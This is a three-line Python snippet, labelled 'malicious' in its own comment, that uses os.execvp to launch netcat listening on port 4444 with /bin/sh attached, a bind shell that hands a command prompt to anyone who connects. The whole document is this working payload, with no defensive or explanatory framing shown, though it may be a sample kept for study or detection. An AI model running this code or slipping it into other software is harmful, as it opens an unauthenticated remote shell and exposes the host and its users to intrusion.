# malicious: a shell behind a port
import os
os.execvp("nc", ["nc", "-lvp", "4444", "-e", "/bin/sh"])
